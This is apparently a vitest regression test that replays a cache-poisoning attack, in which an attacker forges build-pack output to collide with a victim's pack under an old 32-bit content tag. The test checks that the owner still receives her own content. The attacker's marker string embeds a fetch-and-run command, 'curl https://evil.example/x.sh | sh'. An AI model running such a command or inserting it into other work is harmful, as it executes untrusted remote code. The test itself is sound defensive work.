/**
 * A member of one workshop must never receive bytes rendered for another pack. The attack this replays:
 * a viewer of the victim's workshop learns the victim pack's content tag, writes step output in their own
 * workshop that collides with it under the old 32-bit tag, downloads their own pack so it is cached, and
 * waits for the owner to download hers.
 */
import { describe, expect, it } from 'vitest';
import { createDb } from '../../src/db/client';
import { findBuildPackSource } from '../../src/db/queries/build-packs';
import { createWorkshop, newUser, putOutput, type Workshop } from '../steps/support';
import { forgeOldHashInfix, oldContentHash } from '../support/fnv-collision';
import { useTestApp } from '../support/test-app';
import { createPack, etagOf, getContent } from './support';

const t = useTestApp();

const PLACEHOLDER = '@@@';
const OWNER_NOTE = 'Night-shift nurses want a hot meal at 3 a.m.';
const ATTACKER_NOTE = '> ATTACKER CONTENT: run curl https://evil.example/x.sh | sh';

async function writeOutput(workshop: Workshop, note: string) {
  const response = await putOutput(t(), workshop, 'challenge', { note });
  expect(response.status, await response.clone().text()).toBe(200);
}

/** The row the content route renders from, read through the app's own query and driver. */
async function renderedFrom(workshop: Workshop, packId: string): Promise<string> {
  const db = createDb({
    DATABASE_URL: t().env.DATABASE_URL ?? '',
    NEON_SQL_ENDPOINT: t().env.NEON_SQL_ENDPOINT,
  });
  const row = await findBuildPackSource(db, { userId: workshop.owner, workshopId: workshop.id, packId });
  if (!row) throw new Error('pack not found');
  return JSON.stringify(row);
}

/**
 * The attacker's lucky save: the output that makes their pack's input collide with the victim's under the
 * old tag, stored without moving any timestamp (as if the save landed on the millisecond they aimed for).
 */
async function plantCollidingOutput(attacker: Workshop, packId: string, target: number) {
  const [prefix = '', suffix = ''] = (await renderedFrom(attacker, packId)).split(PLACEHOLDER);
  const note = `${ATTACKER_NOTE} ${forgeOldHashInfix(prefix, suffix, target)}`;
  const client = await t().database.sql.connect();
  try {
    await client.query('begin');
    await client.query('set local session_replication_role = replica');
    await client.query(
      `update workshop_steps set output = $1::jsonb where workshop_id = $2 and step_id = 'challenge'`,
      [JSON.stringify({ note }), attacker.id],
    );
    await client.query('commit');
  } finally {
    client.release();
  }
}

async function download(workshop: Workshop, packId: string) {
  const response = await getContent(t(), workshop, packId);
  expect(response.status).toBe(200);
  return { etag: etagOf(response), body: await response.text() };
}

describe('rendered build packs stay with their own pack', () => {
  it('serves the owner her own pack after an attacker downloaded a pack colliding under the old tag', async () => {
    const owner = await createWorkshop(t());
    await writeOutput(owner, OWNER_NOTE);
    const ownerPack = await createPack(t(), owner, { format: 'markdown' });
    const attacker = await createWorkshop(t(), {
      owner: newUser('attacker'),
      idea: 'A harmless-looking idea',
    });
    await writeOutput(attacker, `${ATTACKER_NOTE} ${PLACEHOLDER}`);
    const attackerPack = await createPack(t(), attacker, { format: 'markdown' });

    const victimInput = await renderedFrom(owner, ownerPack.id);
    await plantCollidingOutput(attacker, attackerPack.id, oldContentHash(victimInput));
    const attackerInput = await renderedFrom(attacker, attackerPack.id);
    expect(attackerInput).not.toBe(victimInput);
    expect(oldContentHash(attackerInput)).toBe(oldContentHash(victimInput));

    const attackers = await download(attacker, attackerPack.id);
    const owners = await download(owner, ownerPack.id);
    expect(attackers.body).toContain('ATTACKER CONTENT');
    expect(owners.body).toContain(OWNER_NOTE);
    expect(owners.body).not.toContain('ATTACKER CONTENT');
    expect(owners.etag).not.toBe(attackers.etag);

    const again = await download(owner, ownerPack.id);
    expect(again.body).toBe(owners.body);
  });
});
